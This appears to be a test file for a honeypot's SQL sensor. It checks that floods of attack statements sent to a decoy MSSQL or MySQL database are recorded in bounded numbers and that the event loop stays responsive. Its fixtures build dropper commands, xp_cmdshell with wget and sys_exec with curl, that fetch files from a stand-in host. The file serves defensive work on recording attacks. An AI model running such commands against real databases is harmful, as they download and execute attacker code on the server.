// One statement sent to a decoy database records a bounded number of attack moves and downloads: a
// batch of 20,000 xp_cmdshell calls once recorded 20,000 each of exploit.attempt, command.input and
// file.download and held the event loop for up to 1.2 s.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import type { ApiaryEvent } from '../../../src/events/catalogue.js';
import { createSessionEmitter } from '../../../src/events/emitter.js';
import { MAX_URLS_PER_REQUEST } from '../../../src/sensors/runtime/capture.js';
import { MAX_MOVES_PER_NAME } from '../../../src/sensors/sql/attacks.js';
import { recordStatement } from '../../../src/sensors/sql/record.js';
import { startApiaryProcess, waitFor } from '../../helpers/apiary-process.js';
import { rawLogin, sqlBatch } from '../../helpers/tds-login.js';

function recorder() {
  const events: ApiaryEvent[] = [];
  const emitter = createSessionEmitter({ write: (e) => void events.push(e), flush: async () => {} }, { sensor: 't', protocol: 'mssql', src_ip: '198.51.100.1', src_port: 1, dst_ip: '127.0.0.1', dst_port: 1433 });
  const payloads = { put: async () => ({ sha256: '0'.repeat(64), md5: '0'.repeat(32), size: 1, outcome: 'stored' as const }) };
  const of = (type: string) => events.filter((e) => e.type === type).map((e) => e.payload as Record<string, unknown>);
  return { events, emitter, payloads, of };
}

/** CALLS calls of a command naming a URL each, the form a dropper takes. */
const xpCmdshell = (calls: number, tag = 'r') => Array.from({ length: calls }, (_, i) => `xp_cmdshell 'wget http://198.51.100.7/${tag}_${i}' `).join('');

test('a statement\'s moves of one name and the URLs they name are capped, the rest counted (T-SQL and MySQL, fetcher or none)', () => {
  const CALLS = 20_000;
  for (const [dialect, text] of [
    ['tsql', xpCmdshell(CALLS)],
    ['mysql', Array.from({ length: CALLS }, (_, i) => `SELECT sys_exec('curl http://198.51.100.7/m_${i}');`).join('')],
  ] as const) {
    for (const withFetcher of [false, true]) {
      const r = recorder();
      const fetched: (readonly string[])[] = [];
      const start = process.hrtime.bigint();
      recordStatement(r.emitter, r.payloads, { text, database: undefined, dialect, ...(withFetcher ? { fetchUrls: (urls: readonly string[]) => void fetched.push(urls) } : {}) });
      const ms = Number(process.hrtime.bigint() - start) / 1e6;
      const moves = r.of('exploit.attempt');
      assert.equal(moves.length, MAX_MOVES_PER_NAME + 1, `${dialect}: ${moves.length} exploit.attempt`);
      assert.match(String(moves.at(-1)!.detail), new RegExp(`^${CALLS - MAX_MOVES_PER_NAME} more `), 'the last counts the rest');
      assert.equal(r.of('command.input').length, MAX_MOVES_PER_NAME);
      const downloads = r.of('file.download');
      const taken = withFetcher ? fetched.flat() : downloads.filter((d) => d.outcome === 'disabled').map((d) => d.url);
      assert.equal(taken.length, MAX_URLS_PER_REQUEST, `${dialect}: URLs taken`);
      assert.equal(fetched.length, withFetcher ? 1 : 0, 'one fetch call for the statement');
      // MAX_MOVES_PER_NAME commands name as many URLs: none past the cap here, so none counted.
      assert.equal(downloads.length, withFetcher ? 0 : MAX_URLS_PER_REQUEST);
      assert.ok(ms < 2000, `${dialect}: ${ms.toFixed(0)} ms for one statement`);
    }
  }
  // Commands naming more URLs together than the cap: the rest are counted in one refused download.
  const r = recorder();
  const many = Array.from({ length: 40 }, (_, i) => `http://198.51.100.7/u${i}`);
  const text = [many.slice(0, 12), many.slice(12, 24), many.slice(24)].map((u) => `xp_cmdshell 'wget ${u.join(' ')}'`).join('; ');
  recordStatement(r.emitter, r.payloads, { text, database: undefined, dialect: 'tsql' });
  const downloads = r.of('file.download');
  assert.equal(downloads.length, MAX_URLS_PER_REQUEST + 1);
  assert.deepEqual(downloads.filter((d) => d.outcome === 'disabled').map((d) => d.url), many.slice(0, MAX_URLS_PER_REQUEST));
  assert.deepEqual(downloads.filter((d) => d.outcome === 'refused'), [
    { url: many[MAX_URLS_PER_REQUEST], outcome: 'refused', reason: `not fetched, nor ${40 - MAX_URLS_PER_REQUEST - 1} more: past the first ${MAX_URLS_PER_REQUEST} URLs named in one request` },
  ]);
});

test('an MSSQL client sending batches of 2,000 xp_cmdshell droppers: each batch records a bounded number of events, another source is still recorded', async (t) => {
  const apiary = await startApiaryProcess({
    sensor: 'mssql-droppers',
    auth: [{ user: 'sa', password: '123456', allow: true }],
    services: { mssql: { listen: ['127.0.0.1:0'], browser: { enabled: false } } },
    decoy: { database: 'webshop' },
  });
  const BATCHES = 5;
  const CALLS = 2000;
  const answerMs: number[] = [];
  try {
    const port = apiary.ports.mssql!;
    const flood = await rawLogin(port, '127.0.0.1');
    for (let b = 0; b < BATCHES; b++) {
      const start = Date.now();
      flood.sock.write(sqlBatch(xpCmdshell(CALLS, `b${b}`)));
      await waitFor(() => flood.answers() >= b + 1, 30_000, 5);
      answerMs.push(Date.now() - start);
    }
    flood.sock.destroy();
    const other = await rawLogin(port, '127.0.0.2');
    other.sock.write(sqlBatch("EXEC xp_cmdshell 'wget http://198.51.100.7/other'"));
    await waitFor(() => other.answers() >= 1, 10_000);
    other.sock.destroy();
  } finally {
    await apiary.stop();
  }
  const events = await apiary.events(['--limit', '1000000']);
  const from = (ip: string, type: string) => events.filter((e) => e.src_ip === ip && e.type === type);
  const flooder = events.filter((e) => e.src_ip === '127.0.0.1');
  const counted = flooder.filter((e) => e.type === 'connection.limited' && e.limit === 'event_rate').reduce((n, e) => n + (e.refused as number), 0);
  t.diagnostic(`${BATCHES} batches of ${CALLS} xp_cmdshell: answered in ${answerMs.join(', ')} ms; ${flooder.length} events stored (${from('127.0.0.1', 'file.download').length} file.download, ${from('127.0.0.1', 'exploit.attempt').length} exploit.attempt), ${counted} counted`);
  // Per batch: its query, MAX_MOVES_PER_NAME moves and one counting the rest, their commands, and
  // MAX_URLS_PER_REQUEST downloads and one counting the rest; then the login and the connection's pair.
  const perBatch = 1 + (MAX_MOVES_PER_NAME + 1) + MAX_MOVES_PER_NAME + (MAX_URLS_PER_REQUEST + 1);
  assert.ok(flooder.length + counted <= BATCHES * perBatch + 16, `${flooder.length} stored and ${counted} counted for ${BATCHES} batches`);
  assert.ok(from('127.0.0.1', 'exploit.attempt').some((e) => e.name === 'mssql.xp_cmdshell'), 'the attack is still recorded');
  assert.equal(from('127.0.0.2', 'exploit.attempt').length, 1, 'another source is recorded');
  assert.deepEqual(from('127.0.0.2', 'file.download').map((e) => [e.url, e.outcome]), [['http://198.51.100.7/other', 'disabled']]);
  assert.equal(apiary.proc.exitCode, 0);
});
